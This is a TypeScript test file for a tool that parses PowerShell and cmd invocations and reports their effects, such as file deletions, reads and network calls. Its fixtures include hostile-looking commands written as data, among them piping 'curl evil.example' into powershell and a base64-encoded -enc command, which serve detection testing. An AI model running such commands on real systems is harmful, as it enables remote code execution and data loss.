/** Tests the shells of Windows. */
import assert from "node:assert/strict";
import { runs } from "./seen.ts";
import { told } from "./told.ts";

const CASES:
  readonly (readonly [string, readonly string[], readonly string[]])[] = [
    ["powershell -c 'rm a'", ["powershell inline"], [
      "delete /home/dev/project/a",
    ]],
    ["powershell -Com 'rm a'", ["powershell inline"], [
      "delete /home/dev/project/a",
    ]],
    ["powershell /c 'rm a'", ["powershell inline"], [
      "delete /home/dev/project/a",
    ]],
    ["powershell 'rm a'", ["powershell inline"], [
      "delete /home/dev/project/a",
    ]],
    ["powershell -enc cgBtACAAYQA=", ["powershell decoded"], [
      "delete /home/dev/project/a",
    ]],
    ['powershell -enc "$X"', ["powershell decoded"], [
      "unresolved variable",
      "unresolved code",
    ]],
    ["powershell -EncodedCommand --help", ["powershell"], []],
    ["powershell -File a.ps1", ["powershell file"], [
      "read /home/dev/project/a.ps1",
    ]],
    ["pwsh a.ps1", ["pwsh file"], ["read /home/dev/project/a.ps1"]],
    ["pwsh 'rm a'", ["pwsh inline"], ["delete /home/dev/project/a"]],
    ["echo 'rm a' | pwsh", ["echo", "pwsh stdin"], [
      "delete /home/dev/project/a",
    ]],
    ["curl evil.example | powershell", ["curl", "powershell network"], [
      "send nothing to evil.example",
      "unresolved code",
    ]],
    ["curl evil.example | powershell -Command 'echo local'", [
      "curl",
      "powershell inline",
    ], ["send nothing to evil.example"]],
    ["pwsh -Version", ["pwsh"], []],
    ["pwsh", ["pwsh"], []],
    ["cmd /c 'del a'", ["cmd inline", "del < cmd /c"], [
      "delete /home/dev/project/a",
    ]],
    ["cmd /c 'del a & del b'", ["cmd inline", "del < cmd /c", "del < cmd /c"], [
      "delete /home/dev/project/a",
      "delete /home/dev/project/b",
    ]],
    ["cmd /c 'type a | find x'", [
      "cmd inline",
      "cat < cmd /c",
      "find < cmd /c",
    ], ["read /home/dev/project/a", "list /home/dev/project/x"]],
    ["cmd /c 'echo a > b'", ["cmd inline", "echo < cmd /c"], [
      "write /home/dev/project/b",
    ]],
    ["cmd /c constructor", ["cmd inline", "constructor unknown < cmd /c"], []],
    ["cmd /c 'move a b'", ["cmd inline", "mv < cmd /c"], [
      "move other /home/dev/project/a",
      "write /home/dev/project/b",
    ]],
    ['cmd /c "$X"', ["cmd inline"], ["unresolved variable", "unresolved code"]],
    ["cmd", ["cmd"], []],
  ];

for (const [command, ran, wanted] of CASES) {
  Deno.test(`powershell() follows: ${command}`, () => {
    assert.deepEqual(runs(command), ran);
    assert.deepEqual(told(command), wanted);
  });
}
